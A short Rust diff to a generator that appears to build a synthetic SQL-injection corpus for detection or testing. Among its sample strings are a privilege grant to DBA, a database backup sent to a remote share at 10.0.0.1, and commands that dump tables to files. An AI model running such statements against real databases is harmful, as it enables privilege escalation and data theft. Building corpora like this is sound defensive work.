@@ -1018,7 +1018,11 @@ pub fn sqli_corpus(seed: u64, n: usize) -> Vec<Sample> {
                 let stmt = match r.below(20) {
                     12 => format!("create table {t} (c text)"),
                     13 => format!("alter table {t} add c int"),
-                    14 => "grant connect to x; grant dba to x".to_string(),
+                    14 => [
+                        "grant connect to x; grant dba to x",
+                        "revoke select on users from public",
+                    ][r.below(2)]
+                    .to_string(),
                     15 => "backup database master to disk='\\\\10.0.0.1\\x\\db.bak'".to_string(),
                     16 => format!("copy {t} to '/tmp/x'"),
                     17 => format!("select * from {t} into outfile '/tmp/x'"),
